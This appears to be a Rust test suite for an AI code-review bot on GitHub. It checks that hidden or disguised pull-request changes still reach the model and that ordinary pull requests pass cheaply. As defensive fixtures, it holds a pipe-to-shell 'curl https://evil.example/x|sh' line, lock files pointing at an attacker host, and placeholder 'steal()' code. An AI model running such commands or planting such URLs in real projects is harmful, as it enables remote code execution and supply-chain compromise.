//! A green check means a review: every way to change a pull request without the model seeing it, and the ordinary pull
//! requests that must not pay for that.

use crate::review::{finding, lost_page, post};
use crate::spending::{forked, head, says, skipped, target};
use crate::standin::github::state::CheckRun;
use crate::standin::github::{Change, events};
use crate::standin::model::{Answer, Call, Request, Script};
use crate::standin::world::{Ran, Workflow, World};
use serde_json::{Value, json};

/// Pushes these changes onto the head and runs what the push starts.
fn push(world: &World, event: &str, changes: &[Change]) -> Ran {
    let before = head(world);
    let new = world.github.commit("search", &[&before], changes);
    world.github.push(world.pull, &new);
    if event == "pull_request" {
        let payload = events::synchronize_event(&world.github, world.pull, &before);
        return world.run(&world.workflow(event, payload));
    }
    let mut workflow = target(world, "synchronize");
    workflow.payload["before"] = json!(before);
    world.run(&workflow)
}

/// The newest check on the head, if there is one.
fn check(world: &World) -> Option<CheckRun> {
    let head = head(world);
    world.github.with(|state| {
        let mut runs = state.check_runs.iter().rev();
        runs.find(|run| run.head_sha == head).cloned()
    })
}

/// The conclusion and the title of the newest check on the head.
pub fn concluded(world: &World) -> (String, String) {
    let check = check(world).expect("a check on the head");
    let text = Option::unwrap_or_default;
    (text(check.conclusion), text(check.title))
}

/// What its page says.
fn page(world: &World) -> String {
    let check = check(world).expect("a check on the head");
    check.summary.unwrap_or_default()
}

/// Files of the pull request that a push can change without touching a line that was shown.
pub fn unseen_before() -> Vec<Change> {
    vec![
        Change::write(
            "a.key",
            "-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----\n",
        ),
        Change::write("tool.sh", "echo\n"),
        Change::write("plain", "target"),
        Change::write("bytes.ts", b"// \xff\n".as_slice()),
        Change::write("package-lock.json", "{\"lockfileVersion\": 3}\n"),
    ]
}

/// Pushes of that kind: each has today's "same change" and another tree.
pub fn unseen_pushes() -> Vec<(&'static str, Change)> {
    let key = "-----BEGIN PRIVATE KEY-----\nMIIC\n-----END PRIVATE KEY-----\n";
    let blob = "1f7391f92b6a3792204e07e99f71f643cc35e7e1";
    let lock = "{\"packages\": {\"a\": {\"resolved\": \"https://evil.example/a.tgz\"}}}\n";
    vec![
        (
            "a new file below a folder called vendor",
            Change::write("src/vendor/x.js", "evil();\n"),
        ),
        (
            "a file called generated",
            Change::write("src/auth.generated.js", "evil();\n"),
        ),
        (
            "another lock file",
            Change::write("package-lock.json", lock),
        ),
        ("other content in a key", Change::write("a.key", key)),
        ("an executable", Change::executable("tool.sh", "echo\n")),
        ("a symlink", Change::symlink("plain", "target")),
        ("a submodule", Change::submodule("plain", blob)),
        (
            "other bytes",
            Change::write("bytes.ts", b"// \xfe\n".as_slice()),
        ),
    ]
}

#[test]
fn a_fork_s_push_turns_no_check_green_without_a_word_of_somebody_who_may_spend() {
    let world = forked_with(&unseen_before());
    says(&world, "writer", "@review-my-code-bot review");
    let asked = world.model.requests().len();
    assert!(asked > 0);
    for (kind, change) in unseen_pushes() {
        let ran = push(&world, "pull_request_target", &[change]);
        assert_eq!(ran.status(), "skipped", "{kind}: {}", ran.log);
        assert_eq!(check(&world).map(|check| check.title), None, "{kind}");
    }
    // The same change on another head, as after a rebase, waits for a word as well.
    let (before, tree) = (head(&world), Change::write("NOTE", "x\n"));
    let noted = world.github.commit("search", &[&before], &[tree]);
    let back = world
        .github
        .commit("search", &[&noted], &[Change::remove("NOTE")]);
    world.github.push(world.pull, &back);
    let ran = world.run(&target(&world, "synchronize"));
    assert!(skipped(&ran).contains("comes from a fork"), "{}", ran.log);
    assert_eq!(check(&world).map(|check| check.title), None);
    assert_eq!(world.model.requests().len(), asked);
    world.github.take_writes();
    world.finish();
}

/// A stranger's pull request from a fork, with these changes besides.
fn forked_with(more: &[Change]) -> World {
    let world = forked(Script::new());
    let before = head(&world);
    let new = world.github.commit("search", &[&before], more);
    world.github.push(world.pull, &new);
    world
}

/// A file of the pull request, and a word in it that a prompt must hold.
fn hidden_code() -> Vec<(Change, &'static str)> {
    let utf16: Vec<u8> = "steal(\"wide\");\n"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let with_mark = [&[0xff, 0xfe], utf16.as_slice()].concat();
    let padded = [&b"steal('padded');\n//"[..], &[0; 60]].concat();
    vec![
        (Change::write("padded.mjs", padded), "steal('padded')"),
        (Change::write(".env.js", "steal('env');\n"), "steal('env')"),
        (
            Change::write("id_rsa_helper.py", "steal('key')\n"),
            "steal('key')",
        ),
        (
            Change::write("nul.js", "steal('nul');\0\n"),
            r"steal('nul');\u{0}",
        ),
        (Change::write("wide.js", with_mark), "steal(\"wide\")"),
        (Change::write("bare.js", utf16.clone()), "steal(\"wide\")"),
        (
            Change::write("src/auth.generated.js", "steal('generated');\n"),
            "steal('generated')",
        ),
        (
            Change::write("src/api_pb.js", "steal('pb');\n"),
            "steal('pb')",
        ),
        (
            Change::write("src/app.min.js", "steal('min');\n"),
            "steal('min')",
        ),
        (
            Change::write("src/vendor/dep.js", "steal('vendor');\n"),
            "steal('vendor')",
        ),
    ]
}

#[test]
fn code_that_a_name_or_an_encoding_hid_stands_in_a_prompt() {
    let changes: Vec<Change> = hidden_code()
        .into_iter()
        .map(|(change, _)| change)
        .collect();
    let world = World::with(&changes, Script::new().into_behaviour()).quick();
    let ran = world.review();
    ran.ended(0, "clean");
    let asked = world.model.requests();
    let asked: Vec<&str> = asked.iter().flat_map(texts).collect();
    for (change, word) in hidden_code() {
        let path = change.path_text();
        assert!(
            asked.iter().any(|text| text.contains(word)),
            "{path}: {word}"
        );
    }
    world.github.take_writes();
    world.finish();
}

/// The words of all messages of a request.
fn texts(request: &Value) -> Vec<&str> {
    let messages = request["messages"].as_array().into_iter().flatten();
    messages
        .filter_map(|message| message["content"].as_str())
        .collect()
}

#[test]
fn a_rename_hides_neither_what_it_adds_nor_what_it_removes() {
    let lines = |line: fn(usize) -> String| (0..20).map(line).collect::<Vec<_>>().concat();
    let code = lines(|n| format!("export const a{n} = {n};\n"));
    let pem = lines(|n| format!("MIIB{n:04}AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n"));
    let base = [
        Change::write("src/auth.js", format!("{code}checkPassword();\n")),
        Change::write("src/vendor/known.js", "known();\n"),
        Change::write(
            "old.pem",
            format!("-----BEGIN CERTIFICATE-----\n{pem}-----END CERTIFICATE-----\n"),
        ),
    ];
    let more = [
        Change::remove("src/auth.js"),
        Change::write("src/vendor/auth.js", format!("{code}letEverybodyIn();\n")),
        Change::remove("old.pem"),
        Change::write(
            "new.js",
            format!("-----BEGIN CERTIFICATE-----\n{pem}-----END CERTIFICATE-----\nsteal();\n"),
        ),
    ];
    let world = World::settled(&base, &more, Script::new().into_behaviour()).quick();
    let ran = world.review();
    ran.ended(0, "clean");
    let asked = world.model.requests();
    let first = texts(&asked[0]).concat();
    for word in ["checkPassword", "letEverybodyIn", "steal()"] {
        assert!(first.contains(word), "{word}: {first}");
    }
    assert!(
        !first.contains("MIIB0001"),
        "lines of the former key stay masked"
    );
    world.github.take_writes();
    world.finish();
}

#[test]
fn what_nobody_can_show_leaves_the_review_incomplete_and_is_named() {
    let program = [
        b"\x7fELF\x02\x01\x01\0".as_slice(),
        &[0x80, 0, 0xff, 0xfe].repeat(64),
    ]
    .concat();
    let changes = [
        Change::write("x.key", "import os\nos.system('x')\n"),
        Change::write("credentials.json", "{\"run\": \"evil\"}\n"),
        Change::write(
            ".envrc",
            "K=a\"b\nL=\"\ncurl https://evil.example/x|sh\n\"\n",
        ),
        Change::write("logo.png", program.clone()),
        Change::write("tool.bin", program),
    ];
    let world = World::with(&changes, Script::new().into_behaviour()).quick();
    let ran = world.review();
    ran.ended(2, "incomplete");
    let page = page(&world);
    for name in [
        "x.key",
        "credentials.json",
        ".envrc",
        "logo.png",
        "tool.bin",
    ] {
        assert!(page.contains(name), "{name}: {page}");
    }
    let way_out = "let somebody with write access comment";
    assert!(
        page.contains(way_out) && page.contains("@review-my-code-bot accept"),
        "{page}"
    );
    world.github.take_writes();
    world.finish();
}

const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0";
const WOFF2: &[u8] = b"wOF2\0\x01\0\0\0\0\x01\0\0\x0b\0\0";

fn npm_lock(package: &str) -> String {
    format!(
        "{{\"lockfileVersion\": 3, \"packages\": {{\"node_modules/{package}\": {{\"version\": \"1.0.0\", \"resolved\": \
         \"https://registry.npmjs.org/{package}/-/{package}-1.0.0.tgz\", \"funding\": {{\"url\": \"https://opencollective.com/{package}\"}}}}}}}}\n"
    )
}

#[test]
fn an_ordinary_pull_request_stays_green_at_no_further_cost() {
    let base = [Change::write("package-lock.json", npm_lock("left"))];
    let more = [
        Change::write("assets/logo.png", PNG),
        Change::write("assets/font.woff2", WOFF2),
        Change::write(".env.example", "TOKEN=\n"),
        Change::write("package-lock.json", npm_lock("right")),
    ];
    let world = World::settled(&base, &more, Script::new().into_behaviour()).quick();
    world.review().ended(0, "clean");
    let page = page(&world);
    for name in ["assets/logo.png", "assets/font.woff2", "package-lock.json"] {
        assert!(page.contains(name), "{name}: {page}");
    }
    let asked = world.model.requests().len();
    // "Update branch": the base moves, and is merged into the head.
    let main = world
        .github
        .with(|state| state.git.commit_of("main"))
        .expect("main");
    let moved = world
        .github
        .commit("main", &[&main], &[Change::write("LICENSE", "Ours.\n")]);
    world
        .github
        .pull(world.pull, |pull| pull.base.sha.clone_from(&moved));
    let before = head(&world);
    let merged = world.github.commit(
        "search",
        &[&before, &moved],
        &[Change::write("LICENSE", "Ours.\n")],
    );
    world.github.push(world.pull, &merged);
    let payload = events::synchronize_event(&world.github, world.pull, &before);
    world
        .run(&world.workflow("pull_request", payload))
        .ended(0, "clean");
    // A push of excused files only: they are checked and listed, and start no model call.
    push(
        &world,
        "pull_request",
        &[
            Change::write("assets/logo.png", [PNG, b"2"].concat()),
            Change::write("package-lock.json", npm_lock("up")),
        ],
    )
    .ended(0, "clean");
    assert_eq!(concluded(&world).0, "success");
    assert_eq!(world.model.requests().len(), asked);
    // A lock file that names a host of its own is read like any other file.
    let evil = npm_lock("up").replace("registry.npmjs.org", "evil.example");
    push(
        &world,
        "pull_request",
        &[Change::write("package-lock.json", evil)],
    )
    .ended(0, "clean");
    let all = world.model.requests();
    assert!(all.len() > asked);
    assert!(texts(&all[asked]).concat().contains("evil.example"));
    world.github.take_writes();
    world.finish();
}

/// A pull request of lock files only, as a dependency bot opens it: its token may write checks, and it has no key.
#[test]
fn a_pull_request_of_lock_files_only_is_green_without_a_model_key() {
    let world = World::with(&[], |_| -> Answer {
        panic!("no model request was expected")
    })
    .quick();
    let main = world
        .github
        .with(|state| state.git.commit_of("main"))
        .expect("main");
    let locks = [
        Change::write("package-lock.json", npm_lock("left")),
        Change::write("go.sum", "example.com/a v1.0.0 h1:abc=\n"),
    ];
    let update = world.github.commit("search", &[&main], &locks);
    world.github.push(world.pull, &update);
    world
        .github
        .pull(world.pull, |pull| pull.author = "dependabot[bot]".into());
    let without_key = || {
        let mut workflow = world.opened();
        workflow.inputs.remove("opencode_api_key");
        workflow.inputs.remove("model_base_url");
        let model = "anthropic/claude-sonnet-4-5".to_owned();
        workflow.inputs.insert("model".into(), model);
        workflow.payload["sender"]["login"] = json!("dependabot[bot]");
        workflow
    };
    world.run(&without_key()).ended(0, "clean");
    let (conclusion, title) = concluded(&world);
    assert_eq!(conclusion, "success");
    assert!(
        title.starts_with("Nothing to review: 2 lock files"),
        "{title}"
    );
    // With something to review, the missing key is a skip, and no check is written.
    let code = [Change::write("src/new.ts", "export {};\n")];
    let update = world.github.commit("search", &[&update], &code);
    world.github.push(world.pull, &update);
    let ran = world.run(&without_key());
    assert!(skipped(&ran).contains("Dependabot secrets"), "{}", ran.log);
    assert!(check(&world).is_none());
    world.github.take_writes();
    world.finish();
}

/// About 700 kB of diff, in files of ordinary size and one that is larger than a part.
fn large_change() -> Vec<Change> {
    let module = |number: usize, lines: usize| -> String {
        let line =
            |line: usize| format!("export const value{number}x{line} = load({number}, {line});\n");
        (0..lines).map(line).collect()
    };
    let mut changes: Vec<Change> = (0..14)
        .map(|n| Change::write(&format!("src/part{n}.ts"), module(n, 600)))
        .collect();
    changes.push(Change::write("src/huge.ts", module(99, 3_000)));
    changes
}

fn with_context(world: &World, tokens: &str) -> Workflow {
    let mut workflow = world.opened();
    let context = ("model_context".to_owned(), tokens.to_owned());
    workflow.inputs.extend([context]);
    workflow
}

#[test]
fn a_large_change_is_reviewed_whole_in_parts() {
    let world = World::with(&large_change(), Script::new().into_behaviour()).quick();
    let ran = world.run(&with_context(&world, "1000000"));
    ran.ended(0, "clean");
    let asked = world.model.requests();
    let texts: Vec<&str> = asked.iter().flat_map(texts).collect();
    let shown = |word: &str| texts.iter().any(|text| text.contains(word));
    for n in 0..14 {
        assert!(
            shown(&format!("value{n}x0 =")) && shown(&format!("value{n}x599 =")),
            "{n}"
        );
    }
    assert!((0..3_000).all(|line| shown(&format!("value99x{line} ="))));
    assert!(shown("Pass 1 of 4, part 2 of "), "{}", ran.log);
    assert!(ran.log.contains("1/4 diff, part 5 of 5"), "{}", ran.log);
    world.github.take_writes();
    world.finish();
}

#[test]
fn a_model_that_reads_nothing_of_a_large_change_is_not_clean() {
    // Submits the first part, and leaves every other one without a submission.
    let script = Script::new().never_submits(1);
    let world = World::with(&large_change(), script.into_behaviour()).quick();
    let ran = world.run(&with_context(&world, "1000000"));
    ran.ended(2, "incomplete");
    // With the context that is assumed of an unknown model, it is reviewed in sections.
    let script = Script::new().never_submits(1);
    let world = World::with(&large_change(), script.into_behaviour()).quick();
    let ran = world.review();
    ran.ended(2, "incomplete");
    assert!(
        page(&world).contains("(section 1 of 2 was not reviewed to the end)"),
        "{}",
        ran.log
    );
    world.github.take_writes();
    world.finish();
}

#[test]
fn an_incomplete_review_is_accepted_by_a_maintainer_until_the_next_push() {
    let world = World::with(&[], Script::new().into_behaviour()).quick();
    world.github.permit("ann", "write");
    let limited = |mut workflow: Workflow| {
        workflow.inputs.insert("max_tokens".into(), "9000".into());
        workflow
    };
    let ran = world.run(&limited(world.opened()));
    ran.ended(2, "incomplete");
    let asked = world.model.requests().len();
    let accept = |login: &str| {
        let body = "@review-my-code-bot accept";
        let id = world.github.comment(world.pull, login, body).id;
        let payload = events::comment_event("issue_comment", &world.github, world.pull, id);
        world.run(&limited(world.workflow("issue_comment", payload)))
    };
    // The author has no write access here, and a stranger has none either.
    accept("stranger");
    let ran = accept("dev");
    assert!(skipped(&ran).contains("no write access"), "{}", ran.log);
    assert_eq!(concluded(&world).0, "failure");
    let ran = accept("ann");
    ran.ended(0, "clean");
    let (conclusion, title) = concluded(&world);
    assert_eq!(conclusion, "success");
    assert!(
        title.starts_with("Accepted by ann: ") && title.contains("not finished"),
        "{title}"
    );
    // Any later event on this head finds it accepted.
    world.run(&limited(world.opened())).ended(0, "clean");
    assert!(concluded(&world).1.starts_with("Accepted by ann: "));
    assert_eq!(
        world.model.requests().len(),
        asked,
        "nothing more was asked of the model"
    );
    // The next push voids it.
    let before = head(&world);
    let more = [Change::write("src/more.ts", "export {};\n")];
    let new = world.github.commit("search", &[&before], &more);
    world.github.push(world.pull, &new);
    let payload = events::synchronize_event(&world.github, world.pull, &before);
    let ran = world.run(&limited(world.workflow("pull_request", payload)));
    ran.ended(2, "incomplete");
    assert_eq!(concluded(&world).0, "failure");
    world.github.take_writes();
    world.finish();
}

#[test]
fn accepting_closes_no_blocking_finding() {
    let program = [
        &b"\x7fELF\x02\x01\x01\0"[..],
        &[0x80, 0, 0xff, 0xfe].repeat(64),
    ]
    .concat();
    let script = Script::new().pass(1, |_| vec![post(lost_page(9))]);
    let world = World::with(
        &[Change::write("tool.bin", program)],
        script.into_behaviour(),
    )
    .quick();
    world.github.permit("ann", "write");
    world.review().ended(2, "incomplete");
    let ran = says(&world, "ann", "@review-my-code-bot accept");
    assert_eq!(ran.status(), "blocking", "{}", ran.log);
    let (conclusion, title) = concluded(&world);
    assert_eq!(conclusion, "failure");
    assert!(title.contains("1 blocking finding open"), "{title}");
    world.github.take_writes();
    world.finish();
}

#[test]
fn a_file_that_was_excused_is_shown_once_its_excuse_is_gone() {
    let base = [Change::write("lib/vendor/known.js", "known();\n")];
    let more = [Change::write("lib/vendor/new.js", "steal();\n")];
    let world = World::settled(&base, &more, Script::new().into_behaviour()).quick();
    world.review().ended(0, "clean");
    let all = |from: usize| -> String {
        let asked = world.model.requests().split_off(from);
        asked.iter().flat_map(texts).collect()
    };
    assert!(!all(0).contains("steal()"), "the base vendors that folder");
    let asked = world.model.requests().len();
    // The base gives its vendored files up, and the head is brought up to date.
    let main = world.github.with(|state| state.git.commit_of("main"));
    let gone = [Change::remove("lib/vendor/known.js")];
    let moved = world.github.commit("main", &[&main.expect("main")], &gone);
    world
        .github
        .pull(world.pull, |pull| pull.base.sha.clone_from(&moved));
    let before = head(&world);
    let merged = world.github.commit("search", &[&before, &moved], &gone);
    world.github.push(world.pull, &merged);
    let payload = events::synchronize_event(&world.github, world.pull, &before);
    let ran = world.run(&world.workflow("pull_request", payload));
    ran.ended(0, "clean");
    assert!(all(asked).contains("steal()"), "{}", ran.log);
    world.github.take_writes();
    world.finish();
}

#[test]
fn a_lock_file_that_names_its_host_in_an_odd_way_is_read() {
    let base = [Change::write("package-lock.json", npm_lock("left"))];
    let odd = npm_lock("left").replace(
        "https://registry.npmjs.org/",
        "https://evil.example\\\\@registry.npmjs.org/",
    );
    let more = [Change::write("package-lock.json", odd)];
    let world = World::settled(&base, &more, Script::new().into_behaviour()).quick();
    world.review().ended(0, "clean");
    let asked = world.model.requests();
    assert!(texts(&asked[0]).concat().contains("evil.example"));
    world.github.take_writes();
    world.finish();
}

#[test]
fn only_what_could_be_seen_when_it_was_written_is_accepted() {
    let program = |last: u8| {
        [
            &b"\x7fELF\x02\x01\x01\0"[..],
            &[0x80, 0, 0xff, last].repeat(64),
        ]
        .concat()
    };
    let first = [Change::write("tool.bin", program(1))];
    let world = World::with(&first, Script::new().into_behaviour()).quick();
    world.github.permit("ann", "write");
    world.review().ended(2, "incomplete");
    let accept = "@review-my-code-bot accept";
    let id = world.github.comment(world.pull, "ann", accept).id;
    // Her run waits while another program is pushed and reviewed.
    push(
        &world,
        "pull_request",
        &[Change::write("tool.bin", program(2))],
    )
    .ended(2, "incomplete");
    let payload = events::comment_event("issue_comment", &world.github, world.pull, id);
    let ran = world.run(&world.workflow("issue_comment", payload));
    assert!(skipped(&ran).contains("accept it again"), "{}", ran.log);
    assert_eq!(concluded(&world).0, "failure");
    says(&world, "ann", accept).ended(0, "clean");
    world.github.take_writes();
    world.finish();
}

#[test]
fn a_revert_has_the_finding_that_it_takes_back_judged() {
    let resolve = |request: &Request| {
        let prompt = request.last_user();
        let thread = prompt.split("Thread ").nth(1);
        let id = thread.and_then(|rest| rest.split_whitespace().next());
        let id = id.map(|id| id.trim_end_matches([':', '.', ',']).to_owned());
        let fix = json!({ "file": "src/bad.ts" });
        let call = |id: String| {
            let arguments = json!({ "thread_id": id, "reason": "It is gone.", "fixed_by": fix });
            Call::new("github_resolve_thread", arguments)
        };
        id.into_iter().map(call).collect()
    };
    let script = Script::new().threads(resolve).pass(1, |request| {
        let bad = request.raw().to_string().contains("bad();");
        let found = finding("src/bad.ts", 1, 7, "It is bad.");
        if bad { vec![post(found)] } else { vec![] }
    });
    let world = World::with(&[], script.into_behaviour()).quick();
    world.review().ended(0, "clean");
    let bad = [Change::write("src/bad.ts", "bad();\n")];
    push(&world, "pull_request", &bad).ended(0, "findings");
    push(&world, "pull_request", &[Change::remove("src/bad.ts")]).ended(0, "clean");
    let asked = world.model.requests().len();
    world.run(&world.opened()).ended(0, "clean");
    assert_eq!(world.model.requests().len(), asked, "it is judged once");
    world.github.take_writes();
    world.finish();
}

#[test]
fn a_question_after_the_day_s_budget_turns_no_reviewed_head_red() {
    let script = Script::new().pass(1, |_| vec![post(lost_page(7))]);
    let world = World::with(&[], script.into_behaviour()).quick();
    world.github.permit("ann", "write");
    world.review().ended(0, "findings");
    let root = world.github.comments()[0].id;
    let id = world.github.reply(root, "ann", "Why?").id;
    let name = "pull_request_review_comment";
    let payload = events::comment_event(name, &world.github, world.pull, id);
    let mut workflow = world.workflow(name, payload);
    workflow
        .inputs
        .insert("max_per_day".into(), "1 token".into());
    let ran = world.run(&workflow);
    ran.ended(0, "findings");
    let told = ran.annotations("warning").join("\n");
    assert!(told.contains("max_per_day"), "{}", ran.log);
    assert_eq!(concluded(&world).0, "success");
    world.github.take_writes();
    world.finish();
}
